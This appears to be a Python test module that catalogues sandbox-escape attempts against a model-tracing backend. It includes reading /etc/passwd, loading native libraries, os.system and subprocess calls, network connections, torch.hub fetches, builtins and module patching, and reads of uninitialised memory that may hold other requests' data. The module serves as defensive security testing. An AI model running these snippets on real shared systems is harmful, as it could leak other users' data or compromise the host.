"""File I/O through torch/numpy, native code, network, import machinery, builtins patching."""
# ruff: noqa: F401, F841 (F401: the table's programs use the imports as their globals)

import numpy
import torch

from sandbox.attacks import ATTACK_DIR, PROMPT, TARGET, in_trace


def uninitialised_memory_resize(model, backend):
    # resize_ grows a tensor into uninitialised memory that may hold an earlier request's data.
    with model.trace(PROMPT, backend=backend):
        t = torch.zeros(1)
        t.resize_(1_000_000)
        out = t.save()


def uninitialised_memory_legacy(model, backend):
    with model.trace(PROMPT, backend=backend):
        out = torch.FloatTensor(1_000_000).save()


IN_TRACE = in_trace(globals(), {
    "torch_save_file": "torch.save(model.lm_head.output, TARGET)",
    "torch_load_file": 'loaded = torch.load("/etc/passwd", weights_only=False)',
    "torch_from_file": "t = torch.from_file(TARGET, shared=True, size=16)",
    "numpy_tofile": "model.lm_head.output.detach().numpy().tofile(TARGET)",
    "numpy_save": "numpy.save(TARGET, numpy.zeros(3))",
    "numpy_load_pickle": 'x = numpy.load("/tmp/anything.npy", allow_pickle=True)',
    "cpp_extension": 'torch.utils.cpp_extension.load_inline("evil", "int x;")',
    "ops_load_library": 'torch.ops.load_library("/tmp/evil.so")',
    "numpy_ctypeslib": 'numpy.ctypeslib.load_library("evil", "/tmp")',
    "import_ctypes": """
        import ctypes

        ctypes.CDLL(None).system(f"touch {TARGET}".encode())
    """,
    "import_os_system": """
        import os

        os.system("touch " + TARGET)
    """,
    "import_subprocess": """
        import subprocess

        subprocess.run(["touch", TARGET])
    """,
    "torch_hub": 'torch.hub.load("evil/repo", "model")',
    "network_socket": """
        import socket

        socket.create_connection(("example.com", 80))
    """,
    "network_urllib": """
        from urllib import request

        request.urlopen("http://example.com")
    """,
    "import_importlib": """
        import importlib

        os = importlib.import_module("os")
    """,
    "dunder_import": 'os = __import__("os")',
    "sys_modules_patch": """
        import sys

        sys.modules["json"] = None
    """,
    "builtins_patch": """
        import builtins

        builtins.len = lambda x: 0
    """,
    "monkeypatch_torch": "torch.softmax = torch.zeros_like",
    "monkeypatch_tensor_class": "torch.Tensor.softmax = torch.Tensor.zero_",
    "open_builtin": """
        with open(TARGET, "w") as f:
            f.write("pwned")
    """,
    "tokenizer_save_pretrained": 'model.tokenizer.save_pretrained(ATTACK_DIR)',
    "model_save_pretrained": 'model.save_pretrained(ATTACK_DIR)',
    "rust_tokenizer_save": "model.tokenizer.backend_tokenizer.save(TARGET)",
})


ATTACKS = [
    *IN_TRACE, uninitialised_memory_resize, uninitialised_memory_legacy,
]
